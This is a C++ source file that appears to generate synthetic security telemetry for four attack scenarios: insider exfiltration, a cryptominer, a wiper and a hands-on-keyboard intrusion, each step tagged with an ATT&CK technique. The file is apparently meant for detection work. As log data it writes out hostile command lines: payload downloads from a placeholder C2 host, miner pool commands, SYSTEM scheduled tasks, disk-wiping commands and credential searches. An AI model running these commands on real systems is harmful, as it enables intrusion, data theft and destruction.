// SPDX-License-Identifier: Apache-2.0
//
// What attackers come for: files, coins, damage.
#include "stages/produce/synthetic/attack/moves.h"
#include "stages/produce/synthetic/log/security.h"
#include "stages/produce/synthetic/log/windows.h"

namespace tocsin::synthetic {
namespace {

void insider(Attack& a) {
  Person& person = a.victim(kOffice | kAnalyst | kDeveloper);
  const Process explorer = a.open(person, "explorer");
  Host& files = a.server(kFileServer);
  a.step("collection", "T1039");
  const Logon logon = network_logon(a.world, a.at, *person.account, *person.doer.host, files);
  for (int i = 0; i < 14; ++i) {
    security::share_file(a.world, a.at, files, logon, *person.doer.host, "Engineering",
                         a.text("{client}\\{doc}.{officeext}"), 0x120089);
    a.does(explorer, {R"(file {home}\Desktop\{client}\{doc}.{officeext})"});
    a.pause(0, 4);
  }
  a.step("collection", "T1560.001");
  a.run(
      explorer, "7zg",
      {R"("C:\Program Files\7-Zip\7zG.exe" a -p{h8} -mhe=on "{home}\Desktop\{topic}.7z" "{home}\Desktop\{client}\*")"},
      {R"(file {home}\Desktop\{topic}.7z)"});
  a.pause(30, 150);
  if (a.chance(50)) {
    a.step("exfiltration", "T1052.001");
    a.does(
        explorer,
        {R"(set HKLM\System\CurrentControlSet\Enum\USBSTOR\Disk&Ven_SanDisk&Prod_Ultra&Rev_1.00\{h16}&0\FriendlyName = SanDisk Ultra USB Device)"});
    a.run(explorer, "robocopy",
          {R"(robocopy "{home}\Desktop\{client}" E:\{h4} /E)",
           R"(xcopy "{home}\Desktop\{client}" F:\ /E /H /C)"},
          {R"(file E:\{h4}\{topic}.7z)"});
  } else {
    a.step("exfiltration", "T1567.002");
    const Process browser = a.open(person, "chrome");
    a.step("exfiltration", "T1567.002");
    a.does(browser,
           {"web www.dropbox.com", "web content.dropboxapi.com", "web mega.nz", "web transfer.sh"});
  }
  a.step("stealth", "T1070.004");
  a.does(explorer,
         {R"(del {home}\Desktop\{topic}.7z)", R"(del {home}\Desktop\{client}\{doc}.xlsx)"});
  if (a.chance(50)) a.run(explorer, "cipher", {R"(cipher /w:{home}\Desktop)"});
}

void miner(Attack& a) {
  // A small estate has no application server; its portal has holes too.
  Host& with_tomcat = a.world.estate.server(kAppServer);
  Host& app = with_tomcat.find("tomcat") != nullptr ? with_tomcat : a.server(kWebServer);
  const std::string_view service = app.find("tomcat") != nullptr ? "tomcat" : "w3wp";
  const Process java = a.at_host(app, service);
  a.scene.account = java.logon.account;
  a.step("initial-access", "T1190");
  const Process cmd =
      a.run(java, "cmd",
            {R"(cmd.exe /C "powershell -c iwr http://{@c2}/x.ps1 -o %TEMP%\{h4}.ps1")",
             R"(cmd /c certutil -urlcache -f http://{@c2}/{h4}.bat C:\Windows\Temp\{h4}.bat)"},
            {"dns {@c2}"});
  const Process stager = moves::stage(a, cmd);
  moves::impair_defender(a, stager);
  a.step("impact", "T1496");
  a.let("miner", "{minername}");
  const Process tool = a.run_tool(
      stager, R"(C:\Windows\Temp\{miner}.exe)", a.chance(60) ? "xmrig.exe" : "-",
      {R"({miner}.exe -o stratum+tcp://pool.{@c2}:3333 -u {h32}{h32} -p x --donate-level=1 -k)",
       R"({miner}.exe --url pool.{@c2}:443 --user {h32} --tls --cpu-priority 3)",
       R"({miner}.exe -c {h6}.json)"},
      {"dns pool.{@c2}", "net pool.{@c2}:3333"});
  a.step("privilege-escalation", "T1053.005");
  a.let("task", "{taskname}");
  a.run(
      stager, "schtasks",
      {R"(schtasks /create /ru SYSTEM /sc minute /mo 5 /tn "{task}" /tr "C:\Windows\Temp\{miner}.exe -c {h6}.json" /f)"},
      {R"(file C:\Windows\System32\Tasks\{task})"});
  security::task_created(a.world, a.at, app, stager.logon, "\\" + a.text("{task}"),
                         a.text(R"(C:\Windows\Temp\{miner}.exe)"), "-c");
  for (int i = 0; i < 4; ++i) {
    a.step("impact", "T1496");
    a.pause(20, 60);
    a.does(tool, {"net pool.{@c2}:3333"});
  }
}

void wiper(Attack& a) {
  Host& target = a.elsewhere(a.server(kDomainController));
  Host& dc = a.world.estate.server(kDomainController);
  auto& admins = a.world.estate.admins;
  const Account& admin = admins[a.world.rng.below(admins.size())];
  a.scene.account = &admin;
  a.step("lateral-movement", "T1570");
  const Logon logon = network_logon(a.world, a.at, admin, dc, target, "NTLM");
  security::share_file(a.world, a.at, target, logon, dc, "C$",
                       a.text(R"(Windows\Temp\{implant}.exe)"), 0x17019f);
  a.step("execution", "T1569.002");
  a.let("svc", "{svcname}");
  windows::service_installed(a.world, a.at, target, admin, a.text("{svc}"),
                             a.text(R"(C:\Windows\Temp\{implant}.exe)"));
  const Process cmd = a.run_as(a.at_host(target, "services"), a.system(), "System", "cmd",
                               {R"(cmd.exe /c C:\Windows\Temp\{h6}.bat)"});
  moves::impair_defender(a, cmd);
  moves::destroy_recovery(a, cmd);
  a.step("impact", "T1485");
  for (int i = 0; i < 8; ++i)
    a.does(cmd, {R"(del C:\Users\{anyuser}\Documents\{doc}.{officeext})"});
  a.run(cmd, "cipher", {R"(cipher /w:C:\)"});
  a.run(cmd, "fsutil",
        {"fsutil usn deletejournal /D C:",
         R"(fsutil file setZeroData offset=0 length=524288000 D:\Shares\{topic}.vhdx)"});
  a.step("impact", "T1529");
  a.run(cmd, "shutdown", {"shutdown /r /f /t 0", "shutdown.exe -s -t 00 -f"});
}

void hands_on_keyboard(Attack& a) {
  Person& person = a.victim(kAdmin);
  const Process shell = a.open(person, "admincmd");
  a.step("discovery", "T1046");
  const Process scan = a.run_tool(shell, R"({dropdir}\{scanname}.exe)",
                                  a.chance(60) ? "advanced_ip_scanner.exe" : "-",
                                  {R"({scanname}.exe /r:10.20.10.1-10.20.10.254 /f:{h6}.csv)",
                                   R"({scanname}.exe -p 445,3389,5985 -t 10.20.2.0/24)"});
  for (int i = 0; i < 8; ++i) a.does(scan, {"net {scanner}:445"});
  a.step("credential-access", "T1552.001");
  a.run(shell, "findstr",
        {R"(findstr /spin "password" \\{fs}\Deploy$\*.xml)",
         R"(findstr /s /i /m "pass pwd" C:\Scripts\*.ps1)"});
  a.step("credential-access", "T1555.004");
  a.run(shell, "vaultcmd", {R"(vaultcmd /listcreds:"Windows Credentials" /all)"});
  a.run(shell, "cmdkey", {"cmdkey /list"});
  moves::dump_lsass(a, shell);
  const Process first = moves::spread(a, shell, *person.admin, a.server(kSqlServer));
  moves::discover(a, first);
  const Process second = moves::spread(a, first, *person.admin, a.server(kFileServer));
  a.step("stealth", "T1036.003");
  a.run(second, "cmd", {R"(cmd /c copy C:\Windows\System32\cmd.exe C:\ProgramData\{implant}.exe)"},
        {R"(file C:\ProgramData\{implant}.exe)"});
  a.run_tool(second, R"(C:\ProgramData\{implant}.exe)", "Cmd.Exe",
             {R"(C:\ProgramData\svchost.exe /c whoami /all)",
              R"(C:\ProgramData\{implant}.exe /c net session)"});
  moves::collect(a, second);
  moves::exfiltrate(a, second);
  moves::clear_logs(a, second);
}

constexpr Scenario kScenarios[] = {
    {"insider-exfil", "An employee packs the drawings and leaves", insider},
    {"cryptominer", "A hole in the application server pays for coins", miner},
    {"wiper", "Destruction pushed from the domain controller", wiper},
    {"hands-on-keyboard", "An intruder at an administrator's console", hands_on_keyboard},
};

}  // namespace

std::span<const Scenario> objective_scenarios() { return kScenarios; }

}  // namespace tocsin::synthetic
